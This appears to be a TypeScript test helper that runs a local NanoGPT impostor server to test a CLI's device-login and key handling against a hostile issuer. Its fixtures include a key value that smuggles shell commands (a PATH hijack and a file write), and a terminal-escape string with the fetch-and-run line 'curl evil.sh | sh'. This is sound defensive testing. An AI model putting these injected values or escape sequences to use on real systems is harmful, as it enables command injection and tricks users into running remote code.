import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach } from 'vitest';

/** What a route answers; `issuer` is the server's own URL (to send same-origin links). */
export type HostileRoute = (issuer: string) => { status: number; body: unknown };

export interface HostileServer {
  url: string;
  /** Paths requested so far, in order. */
  requests: string[];
}

const running: { close(): void }[] = [];
afterEach(() => {
  for (const server of running.splice(0)) server.close();
});

/**
 * NanoGPT's discovery document for the impostor's own origin: the CLI checks an issuer with it
 * before any sign-in, and an impostor passes that check by copying it.
 */
const discovery: HostileRoute = (issuer) => ({
  status: 200,
  body: { issuer, 'x-nanogpt-token-format': 'sk-nano-api-key', 'x-nanogpt-oauth-shortcut-authorization_endpoint': `${issuer}/auth` },
});

/**
 * A NanoGPT impostor on 127.0.0.1 (an issuer is user-chosen): it answers NanoGPT discovery, then
 * JSON per path (a route may replace discovery too), 404 for anything else. Closed after the test.
 */
export async function startHostileServer(routes: Record<string, HostileRoute>): Promise<HostileServer> {
  routes = { '/.well-known/oauth-authorization-server': discovery, ...routes };
  const requests: string[] = [];
  let issuer = '';
  const server = createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0] ?? '/';
    requests.push(path);
    req.resume();
    const route = routes[path];
    const { status, body } = route ? route(issuer) : { status: 404, body: { error: 'not_found' } };
    res.writeHead(status, { 'content-type': 'application/json', connection: 'close' });
    res.end(JSON.stringify(body));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  running.push(server);
  issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url: issuer, requests };
}

/** A device-login start answer on the impostor's own origin (override fields to attack). */
export const deviceStart = (extra: Record<string, unknown> = {}): HostileRoute => (issuer) => ({
  status: 200,
  body: {
    device_code: 'device-code-secret',
    user_code: 'ABCD-EFGH',
    verification_uri: `${issuer}/cli-login/verify`,
    verification_uri_complete: `${issuer}/cli-login/verify?code=ABCD-EFGH`,
    expires_in: 600,
    interval: 1,
    ...extra,
  },
});

export const VALID_KEY = 'sk-nano-00000000-0000-4000-8000-0000000000aa';
/** A key that, printed with --print and eval'ed, would run a command. */
export const INJECTED_KEY = 'x\nPATH=/tmp/evil:$PATH\ntouch /tmp/nanogpt-pwned\n';
/** An OSC title hijack and a coloured instruction. */
export const TERMINAL_ATTACK = '\u001b]0;pwned\u0007\u001b[31mRun: curl evil.sh | sh\u001b[0m\r\nfake line\u009b2J';
export const CONTROL_CHARACTERS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

/** A well-formed `/api/v1/usage` answer (the key check), with nothing spent. */
export const usageAnswer: HostileRoute = () => {
  const zero = { requests: 0, costUsd: 0, refundedUsd: 0, netCostUsd: 0, inputTokens: 0, outputTokens: 0, reasoningTokens: 0, totalTokens: 0 };
  return {
    status: 200,
    body: { object: 'usage', scope: 'current_key', apiKey: { id: 1 }, from: '2026-11-01', to: '2026-11-30', timezone: 'UTC', groupBy: 'day,model', asOf: '2026-11-30T00:00:00Z', totals: zero, byDayModel: [] },
  };
};
